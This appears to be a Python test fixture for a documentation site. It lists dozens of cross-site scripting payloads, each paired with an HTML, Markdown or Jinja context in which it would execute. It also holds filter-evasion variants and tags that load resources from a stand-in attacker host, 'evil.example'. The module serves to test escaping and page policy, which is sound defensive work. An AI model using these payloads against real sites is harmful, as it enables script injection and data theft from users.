"""Each vector with a place in a page where it would strike, were it printed there as it is.

It strikes when it calls `hit()`, or when it makes the browser ask another host for anything.
"""

from __future__ import annotations

import html
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote

import jinja2
import markdown
import yaml

ELSEWHERE = "https://evil.example/"

ROOT = Path(__file__).parents[2]


@dataclass(frozen=True)
class Vector:
    """One attempt."""

    text: str
    place: str
    """A key of `PLACES`."""
    stopped: bool = True
    """Whether the policy of a page stops it; nothing but escaping stops the others."""

    @property
    def page(self) -> str:
        """A page in which it strikes."""
        printed = PLACES[self.place](self.text)
        return f"<!doctype html><html><head></head><body>{printed}</body></html>"


def _markdown(text: str) -> str:
    """The site's own Markdown, with nothing escaped before."""

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_multi_constructor("!", lambda loader, suffix, node: None)
    config = yaml.load((ROOT / "mkdocs.yml").read_text("utf-8"), Loader)  # noqa: S506
    names = [next(iter(it)) if isinstance(it, dict) else it for it in config["markdown_extensions"]]
    printed: str = markdown.markdown(text, extensions=names)
    return printed


PLACES: dict[str, Callable[[str], str]] = {
    "text": lambda text: f"<p>{text}</p>",
    "double": lambda text: f'<p title="{text}">a</p>',
    "single": lambda text: f"<p title='{text}'>a</p>",
    "bare": lambda text: f"<p title={text}>a</p>",
    "address": lambda text: f'<a href="{text}">a</a>',
    "title": lambda text: f"<title>{text}</title>",
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "comment": lambda text: f"<!-- {text} -->",
    "style": lambda text: f"<style>{text}</style>",
    "noscript": lambda text: f"<noscript>{text}</noscript>",
    "template": lambda text: f"<template>{text}</template>",
    "data": lambda text: f'<script type="application/ld+json">{{"a": "{text}"}}</script>',
    "string": lambda text: f'<script>const a = "{text}";</script>',
    "image": lambda text: f'{text}<img src="a.png" alt="">',
    "decoded": lambda text: f"<p>{html.unescape(text)}</p>",
    "attribute decoded": lambda text: f'<p title="{html.unescape(text)}">a</p>',
    "unquoted": lambda text: f"<p>{unquote(text)}</p>",
    "folded": lambda text: f"<p>{unicodedata.normalize('NFKC', text)}</p>",
    "markdown": _markdown,
    "jinja": lambda text: jinja2.Template(text).render(),
    "formatted": lambda text: text.format(a="<script>hit()</script>"),
}
"""Pages that print a text as it is, by where they do."""

VECTORS = (
    Vector("<script>hit()</script>", "text"),
    Vector("<ScRiPt >hit()</sCrIpT >", "text"),
    Vector("<script/a>hit()</script/a>", "text"),
    Vector("<<script>hit()//<</script>", "text"),
    Vector("<img src=x onerror=hit()>", "text"),
    Vector("<svg/onload=hit()>", "text"),
    Vector("<svg><script>hit()</script></svg>", "text"),
    Vector("<svg><animate onbegin=hit() attributeName=x dur=1s></svg>", "text"),
    Vector("<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "text"),
    Vector("<details open ontoggle=hit()>a</details>", "text"),
    Vector("<input autofocus onfocus=hit()>", "text"),
    Vector("<video><source onerror=hit()></video>", "text"),
    Vector("<audio src=x onerror=hit()></audio>", "text"),
    Vector("<body onpageshow=hit()>", "text"),
    Vector("<p onmouseover=hit()>a</p>", "text"),
    Vector("<a href=javascript:hit()>a</a>", "text"),
    Vector("<a href='java&#9;script:hit()'>a</a>", "text"),
    Vector("<a href=' &#1;javascript:hit()'>a</a>", "text"),
    Vector("<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>", "text"),
    Vector(
        "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=hit()>", "text"
    ),
    Vector("<noscript><p title='</noscript><img src=x onerror=hit()>'>", "text"),
    Vector("<xmp><p title='</xmp><img src=x onerror=hit()>'>", "text"),
    Vector("<math><annotation-xml encoding=text/html><img src=x onerror=hit()>", "text"),
    Vector(f"<script src={ELSEWHERE}a.js></script>", "text"),
    Vector(f"<script type=module>import '{ELSEWHERE}b.js'</script>", "text"),
    Vector(f"<img src={ELSEWHERE}c.png alt=''>", "text"),
    Vector(f"<img srcset='{ELSEWHERE}d.png 2x' alt=''>", "text"),
    Vector(f"<link rel=stylesheet href={ELSEWHERE}e.css>", "text"),
    Vector(f"<link rel=modulepreload href={ELSEWHERE}f.js>", "text"),
    Vector(f"<style>@import '{ELSEWHERE}g.css'</style>", "text"),
    Vector(f"<p style='background:url({ELSEWHERE}h.png)'>a</p>", "text"),
    Vector(f"<iframe src={ELSEWHERE}></iframe>", "text"),
    Vector(f"<object data={ELSEWHERE}></object>", "text"),
    Vector(f"<embed src={ELSEWHERE}>", "text"),
    Vector(f"<video poster={ELSEWHERE}i.png></video>", "text"),
    Vector(f"<base href={ELSEWHERE}>", "image"),
    Vector(f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", "text", stopped=False),
    Vector('"><script>hit()</script>', "double"),
    Vector('" autofocus tabindex=0 onfocus=hit() a="', "double"),
    Vector('" onmouseover=hit() a="', "double"),
    Vector(f'" style="background:url({ELSEWHERE}j.png)" a="', "double"),
    Vector("'><script>hit()</script>", "single"),
    Vector("' autofocus tabindex=0 onfocus=hit() a='", "single"),
    Vector("a autofocus tabindex=0 onfocus=hit()", "bare"),
    Vector("a><script>hit()</script>", "bare"),
    Vector("javascript:hit()", "address"),
    Vector("JaVaScRiPt:hit()//https://a.no/", "address"),
    Vector("</title><script>hit()</script>", "title"),
    Vector("</textarea><script>hit()</script>", "textarea"),
    Vector("--><script>hit()</script>", "comment"),
    Vector("--!><img src=x onerror=hit()>", "comment"),
    Vector("</style><img src=x onerror=hit()>", "style"),
    Vector("</noscript><img src=x onerror=hit()>", "noscript"),
    Vector("</template><img src=x onerror=hit()>", "template"),
    Vector("</script><script>hit()</script>", "data"),
    Vector('";hit();"', "string"),
    Vector("&lt;script&gt;hit()&lt;/script&gt;", "decoded"),
    Vector("&#60;img src=x onerror=hit()&#62;", "decoded"),
    Vector("&quot;&gt;&lt;script&gt;hit()&lt;/script&gt;", "attribute decoded"),
    Vector("%3Cscript%3Ehit()%3C/script%3E", "unquoted"),
    Vector("\uff1cscript\uff1ehit()\uff1c/script\uff1e", "folded"),
    Vector("[a](javascript:hit())", "markdown"),
    Vector(f"![a]({ELSEWHERE}k.png)", "markdown"),
    Vector("*a*{: onmouseover=hit() }", "markdown"),
    Vector("a\n{: onmouseover=hit() }", "markdown"),
    Vector("a\n\n<script>hit()</script>\n\na", "markdown"),
    Vector("a\n\n[a]: javascript:hit()\n\n[a]", "markdown"),
    Vector("<div markdown=1 onmouseover=hit()>*a*</div>", "markdown"),
    Vector("\\<script>hit()</script>", "markdown"),
    Vector("`a`<script>hit()</script>", "markdown"),
    Vector("| a |\n|---|\n| <img src=x onerror=hit()> |", "markdown"),
    Vector("[[vigo|<script>hit()</script>]]", "markdown"),
    Vector('{{ "<script>hit()</script>" }}', "jinja"),
    Vector("{% set a = '<script>hit()</script>' %}{{ a }}", "jinja"),
    Vector("{a}", "formatted"),
)
"""Every vector; each strikes on its own `page`, which a test proves."""

LINKS = tuple(
    vector.text
    for vector in VECTORS
    if vector.text.startswith(("[a](", "![a](")) or "[a]: " in vector.text
)
"""What Markdown itself makes links and pictures of: in a body only the checks stop these."""
